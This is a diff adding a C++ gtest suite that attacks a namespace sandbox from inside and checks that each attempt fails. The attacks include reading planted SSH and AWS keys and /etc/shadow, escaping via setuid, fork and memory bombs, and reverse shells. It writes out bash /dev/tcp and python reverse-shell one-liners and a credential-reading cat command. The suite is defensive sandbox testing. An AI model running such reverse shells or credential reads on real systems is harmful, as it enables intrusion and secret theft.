@@ -1,0 +1,370 @@
+// Attacks from inside the namespace jail. Each runs a real program (attack.cc, bash, python3) in
+// a jail built on the test root fixture and asserts both that it failed and why.
+#include <arpa/inet.h>
+#include <dirent.h>
+#include <fcntl.h>
+#include <gtest/gtest.h>
+#include <ifaddrs.h>
+#include <netinet/in.h>
+#include <signal.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+#include <filesystem>
+#include <fstream>
+#include <random>
+#include <set>
+#include <sstream>
+
+#include "executor/namespace/cgroup.h"
+#include "executor/namespace/namespace_executor.h"
+#include "executor/namespace/test_root.h"
+#include "runner/base/file_io.h"
+#include "runner/base/temp_dir.h"
+
+namespace nixjail::executor {
+namespace {
+
+namespace fs = std::filesystem;
+constexpr const char* kAttack = "/attacks/attack";
+
+std::string randomTag() {
+    std::random_device rd;
+    return std::to_string(::getpid()) + "-" + std::to_string(rd());
+}
+
+// Every IPv4 address of the host, loopback included.
+std::vector<std::string> hostAddresses() {
+    std::vector<std::string> out;
+    ifaddrs* list = nullptr;
+    if (::getifaddrs(&list) != 0) return out;
+    for (auto* i = list; i; i = i->ifa_next) {
+        if (!i->ifa_addr || i->ifa_addr->sa_family != AF_INET) continue;
+        char buf[INET_ADDRSTRLEN];
+        ::inet_ntop(AF_INET, &reinterpret_cast<sockaddr_in*>(i->ifa_addr)->sin_addr, buf, sizeof buf);
+        out.push_back(buf);
+    }
+    ::freeifaddrs(list);
+    return out;
+}
+
+// A host service on 0.0.0.0 that must never see a connection from the jail.
+class HostListener {
+public:
+    HostListener() : fd_(::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0)) {
+        sockaddr_in addr{};
+        addr.sin_family = AF_INET;
+        addr.sin_addr.s_addr = htonl(INADDR_ANY);
+        socklen_t len = sizeof addr;
+        if (::bind(fd_, reinterpret_cast<sockaddr*>(&addr), len) != 0 || ::listen(fd_, 16) != 0 ||
+            ::getsockname(fd_, reinterpret_cast<sockaddr*>(&addr), &len) != 0) {
+            throw std::runtime_error("cannot listen on 0.0.0.0");
+        }
+        port_ = ntohs(addr.sin_port);
+    }
+    ~HostListener() { ::close(fd_); }
+    int port() const { return port_; }
+    bool acceptedAnything() const {
+        int c = ::accept4(fd_, nullptr, nullptr, SOCK_CLOEXEC);
+        if (c >= 0) ::close(c);
+        return c >= 0;
+    }
+
+private:
+    int fd_;
+    int port_ = 0;
+};
+
+class JailAttack : public ::testing::Test {
+protected:
+    void SetUp() override {
+        NIXJAIL_REQUIRE_JAIL();
+        root_ = std::make_unique<testing::TestRoot>(executor_);
+    }
+
+    JailSpec spec() const {
+        auto s = root_->spec("security-" + randomTag());
+        s.binds.push_back({.host = NIXJAIL_ATTACK_BIN, .jail = kAttack});
+        return s;
+    }
+
+    StepResult run(Jail& jail, std::vector<std::string> argv, std::string* out,
+                   std::vector<std::string> extraEnv = {}) {
+        StepInvocation step;
+        step.argv = std::move(argv);
+        step.env = {"PATH=/usr/bin:/bin", "HOME=/workspace"};
+        for (auto& e : extraEnv) step.env.push_back(std::move(e));
+        step.cwd = "/workspace";
+        step.timeout = std::chrono::seconds(30);
+        step.on_output = [out](std::string_view s) { out->append(s); };
+        return jail.run(step);
+    }
+
+    // Runs one attack in a fresh jail and returns its one-line verdict.
+    std::string attack(std::vector<std::string> args, std::vector<std::string> env = {}) {
+        auto jail = executor_.prepare(spec());
+        std::string out;
+        args.insert(args.begin(), kAttack);
+        auto r = run(*jail, args, &out, std::move(env));
+        EXPECT_EQ(r.setup_error, "");
+        return out;
+    }
+
+    NamespaceExecutor executor_;
+    std::unique_ptr<testing::TestRoot> root_;
+};
+
+TEST_F(JailAttack, PlantedSshKeyAndAwsCredentialsAreNotReachable) {
+    base::TempDir home("nixjail-home-");
+    fs::create_directories(home.path() / ".ssh");
+    fs::create_directories(home.path() / ".aws");
+    base::writeFile(home.path() / ".ssh/id_rsa", "PLANTED-PRIVATE-KEY");
+    base::writeFile(home.path() / ".aws/credentials", "aws_secret_access_key=PLANTED");
+    ::chmod(home.path().c_str(), 0755);
+    auto env = std::vector<std::string>{"HOME=" + home.path().string()};
+    EXPECT_EQ(attack({"read", (home.path() / ".ssh/id_rsa").string()}, env), "ENOENT\n");
+    EXPECT_EQ(attack({"read", (home.path() / ".aws/credentials").string()}, env), "ENOENT\n");
+    EXPECT_EQ(attack({"read", "/root/.ssh/id_rsa"}), "ENOENT\n");
+    EXPECT_EQ(attack({"read", "/root/.aws/credentials"}), "ENOENT\n");
+    // Through the shell's ~ expansion with the host HOME as well.
+    auto jail = executor_.prepare(spec());
+    std::string out;
+    auto r = run(*jail, {"sh", "-c", "cat ~/.ssh/id_rsa ~/.aws/credentials"}, &out, env);
+    EXPECT_NE(r.exit_code, 0);
+    EXPECT_EQ(out.find("PLANTED"), std::string::npos) << out;
+}
+
+TEST_F(JailAttack, EtcShadowIsNotVisible) {
+    ASSERT_TRUE(fs::exists("/etc/shadow")) << "the host has no /etc/shadow to protect";
+    EXPECT_EQ(attack({"read", "/etc/shadow"}), "ENOENT\n");
+}
+
+TEST_F(JailAttack, HostTcpListenerIsUnreachableOnEveryHostAddress) {
+    HostListener listener;
+    auto port = std::to_string(listener.port());
+    for (const auto& ip : hostAddresses()) {
+        auto verdict = attack({"connect", ip, port});
+        // 127.0.0.1 is the jail's own loopback, where nothing listens; other addresses have no route.
+        if (ip.rfind("127.", 0) == 0) {
+            EXPECT_EQ(verdict, "ECONNREFUSED\n") << ip;
+        } else {
+            EXPECT_EQ(verdict, "ENETUNREACH\n") << ip;
+        }
+    }
+    EXPECT_FALSE(listener.acceptedAnything());
+}
+
+TEST_F(JailAttack, RawPacketAndNetlinkSocketsAreDenied) {
+    EXPECT_EQ(attack({"socket", "raw"}), "EPERM\n");
+    EXPECT_EQ(attack({"socket", "raw6"}), "EPERM\n");
+    EXPECT_EQ(attack({"socket", "packet"}), "EPERM\n");
+    EXPECT_EQ(attack({"socket", "netlink"}), "EPERM\n");
+    EXPECT_EQ(attack({"socket", "netlink-high"}), "EPERM\n");
+}
+
+TEST_F(JailAttack, PtraceOfAProcessOutsideIsDenied) {
+    pid_t victim = ::fork();
+    if (victim == 0) {
+        ::pause();
+        ::_exit(0);
+    }
+    auto pid = std::to_string(victim);
+    EXPECT_EQ(attack({"ptrace", pid}), "EPERM\n");  // seccomp
+    EXPECT_EQ(attack({"kill0", pid}), "ESRCH\n");   // and invisible from the jail's pid namespace
+    ::kill(victim, SIGKILL);
+    ::waitpid(victim, nullptr, 0);
+}
+
+TEST_F(JailAttack, MountIsDenied) { EXPECT_EQ(attack({"mount"}), "EPERM\n"); }
+
+TEST_F(JailAttack, NewUserAndNetworkNamespacesAreDenied) {
+    EXPECT_EQ(attack({"userns"}), "EPERM\n");
+    EXPECT_EQ(attack({"netns"}), "EPERM\n");
+}
+
+TEST_F(JailAttack, SetuidRootBinaryDoesNotGiveRoot) {
+    base::TempDir dir("nixjail-suid-");
+    ::chmod(dir.path().c_str(), 0755);
+    auto suid = dir.path() / "attack";
+    fs::copy_file(NIXJAIL_ATTACK_BIN, suid);
+    ASSERT_EQ(::chown(suid.c_str(), 0, 0), 0);
+    ASSERT_EQ(::chmod(suid.c_str(), 04755), 0);
+    auto s = spec();
+    s.binds.push_back({.host = dir.path(), .jail = "/suid"});
+    auto jail = executor_.prepare(s);
+    std::string out;
+    auto r = run(*jail, {"/suid/attack", "euid"}, &out);
+    EXPECT_EQ(r.exit_code, 0) << r.setup_error;
+    EXPECT_EQ(out, "1000 1000\n");  // nosuid bind, no_new_privs, and root is not even mapped
+    out.clear();
+    run(*jail, {"/suid/attack", "setuid0"}, &out);
+    EXPECT_EQ(out, "EPERM\n");
+    // Nor can the step make a setuid file of its own.
+    out.clear();
+    run(*jail, {kAttack, "write", "/workspace/mine"}, &out);
+    out.clear();
+    run(*jail, {kAttack, "chmod-suid", "/workspace/mine"}, &out);
+    EXPECT_EQ(out, "EPERM\n");
+}
+
+TEST_F(JailAttack, ReadOnlyBindsAndRootCannotBeWritten) {
+    EXPECT_EQ(attack({"write", "/usr/nixjail-pwned"}), "EROFS\n");
+    EXPECT_EQ(attack({"write", "/etc/nixjail-pwned"}), "EROFS\n");
+    EXPECT_EQ(attack({"write", "/attacks/attack"}), "EROFS\n");
+    EXPECT_EQ(attack({"write", "/workspace/allowed"}), "OK\n");  // control: the workspace is rw
+    EXPECT_FALSE(fs::exists("/usr/nixjail-pwned"));
+}
+
+TEST_F(JailAttack, KernelModuleLoadingIsDenied) {
+    EXPECT_EQ(attack({"module"}), "EPERM\n");
+    EXPECT_EQ(attack({"init-module"}), "EPERM\n");
+}
+
+TEST_F(JailAttack, WritableExecutableMappingIsDeniedByDefault) {
+    EXPECT_EQ(attack({"wx"}), "EPERM\n");
+}
+
+bool anyProcessMentions(const std::string& marker) {
+    for (const auto& e : fs::directory_iterator("/proc")) {
+        auto name = e.path().filename().string();
+        if (name.find_first_not_of("0123456789") != std::string::npos) continue;
+        std::ifstream in(e.path() / "cmdline", std::ios::binary);
+        std::string cmd((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
+        if (cmd.find(marker) != std::string::npos) return true;
+    }
+    return false;
+}
+
+TEST_F(JailAttack, DaemonizedProcessDoesNotOutliveTheStep) {
+    auto marker = "nixjail-daemon-" + randomTag();
+    EXPECT_EQ(attack({"daemonize", marker}), "OK daemonized\n");
+    EXPECT_FALSE(anyProcessMentions(marker));
+}
+
+TEST_F(JailAttack, ForkBombIsHeldByThePidsLimit) {
+    auto s = spec();
+    s.limits.pids_max = 32;
+    auto jail = executor_.prepare(s);
+    std::string out;
+    auto r = run(*jail, {kAttack, "forkbomb"}, &out);
+    EXPECT_EQ(r.exit_code, 0) << r.setup_error;
+    EXPECT_EQ(out.rfind("EAGAIN after ", 0), 0u) << out;
+    EXPECT_LE(std::atoi(out.c_str() + 13), 30);
+    // The runner and the jail survive: the next step runs normally.
+    out.clear();
+    EXPECT_EQ(run(*jail, {"sh", "-c", "echo alive"}, &out).exit_code, 0);
+    EXPECT_EQ(out, "alive\n");
+}
+
+TEST_F(JailAttack, MemoryBombIsReportedAsOom) {
+    auto s = spec();
+    s.limits.memory_max_bytes = 64ull << 20;
+    auto jail = executor_.prepare(s);
+    std::string out;
+    auto r = run(*jail, {kAttack, "membomb"}, &out);
+    EXPECT_TRUE(r.oom_killed);
+    EXPECT_EQ(r.term_signal, SIGKILL);
+    EXPECT_EQ(out, "");
+}
+
+TEST_F(JailAttack, ReverseShellCannotConnectOut) {
+    HostListener listener;
+    auto port = std::to_string(listener.port());
+    for (const auto& ip : hostAddresses()) {
+        auto jail = executor_.prepare(spec());
+        std::string out;
+        auto r = run(*jail, {"bash", "-c", "bash -i >& /dev/tcp/" + ip + "/" + port + " 0>&1"}, &out);
+        EXPECT_NE(r.exit_code, 0) << ip;
+        EXPECT_TRUE(out.find("Connection refused") != std::string::npos ||
+                    out.find("Network is unreachable") != std::string::npos)
+            << out;
+        out.clear();
+        r = run(*jail, {"python3", "-c",
+                        "import socket,subprocess\ns = socket.create_connection(('" + ip + "', " +
+                            port + "), timeout=5)\nsubprocess.call(['/bin/sh', '-i'], stdin=s, stdout=s)"},
+                &out);
+        EXPECT_NE(r.exit_code, 0) << ip;
+        EXPECT_TRUE(out.find("ConnectionRefusedError") != std::string::npos ||
+                    out.find("Network is unreachable") != std::string::npos)
+            << out;
+    }
+    EXPECT_FALSE(listener.acceptedAnything());
+}
+
+std::set<std::string> namespaceInodesInUse() {
+    std::set<std::string> out;
+    for (const auto& e : fs::directory_iterator("/proc")) {
+        auto name = e.path().filename().string();
+        if (name.find_first_not_of("0123456789") != std::string::npos) continue;
+        for (const char* ns : {"net", "pid", "mnt", "user"}) {
+            std::error_code ec;
+            auto target = fs::read_symlink(e.path() / "ns" / ns, ec);
+            if (!ec) out.insert(target.string());
+        }
+    }
+    return out;
+}
+
+std::string mountTable() { return base::readFile("/proc/self/mountinfo"); }
+
+TEST_F(JailAttack, NothingLeaksAfterTheJailIsGone) {
+    auto mountsBefore = mountTable();
+    auto s = spec();
+    auto marker = "nixjail-leak-" + randomTag();
+    std::string out;
+    std::vector<fs::path> cgroups;
+    {
+        auto jail = executor_.prepare(s);
+        // A daemon, a timeout and a normal step; the step reports its namespaces.
+        run(*jail, {kAttack, "daemonize", marker}, &out);
+        StepInvocation slow;
+        slow.argv = {"sh", "-c", "sleep 100 & sleep 100"};
+        slow.timeout = std::chrono::milliseconds(200);
+        EXPECT_TRUE(jail->run(slow).timed_out);
+        out.clear();
+        run(*jail, {"sh", "-c", "for n in net pid mnt user; do readlink /proc/self/ns/$n; done"}, &out);
+        for (const auto& h : ns::CgroupLayout::detect().hierarchies) {
+            for (const auto& p : fs::directory_iterator(h.parent)) {
+                if (p.path().filename().string().find(s.job_id) != std::string::npos) {
+                    cgroups.push_back(p.path());
+                }
+            }
+        }
+    }
+    EXPECT_FALSE(cgroups.empty()) << "the jail made no cgroup named after job " << s.job_id;
+    for (const auto& c : cgroups) EXPECT_FALSE(fs::exists(c)) << c;
+    EXPECT_FALSE(anyProcessMentions(marker));
+    auto inUse = namespaceInodesInUse();
+    std::istringstream nsLines(out);
+    std::string line;
+    int seen = 0;
+    while (std::getline(nsLines, line)) {
+        ++seen;
+        EXPECT_EQ(inUse.count(line), 0u) << "namespace " << line << " is still held by a process";
+    }
+    EXPECT_EQ(seen, 4) << out;
+    EXPECT_EQ(mountTable(), mountsBefore);
+    for (const auto& e : fs::directory_iterator(fs::temp_directory_path())) {
+        EXPECT_EQ(e.path().filename().string().find(ns::cgroupSafeName(s.job_id)), std::string::npos)
+            << e.path();
+    }
+}
+
+// Prints the summary line the security suite promises, after gtest's own.
+class SummaryPrinter : public ::testing::EmptyTestEventListener {
+    void OnTestProgramEnd(const ::testing::UnitTest& unit) override {
+        std::printf("%d passed, %d failed\n", unit.successful_test_count(), unit.failed_test_count());
+        std::fflush(stdout);
+    }
+};
+
+}  // namespace
+}  // namespace nixjail::executor
+
+int main(int argc, char** argv) {
+    ::testing::InitGoogleTest(&argc, argv);
+    ::testing::UnitTest::GetInstance()->listeners().Append(new nixjail::executor::SummaryPrinter);
+    return RUN_ALL_TESTS();
+}
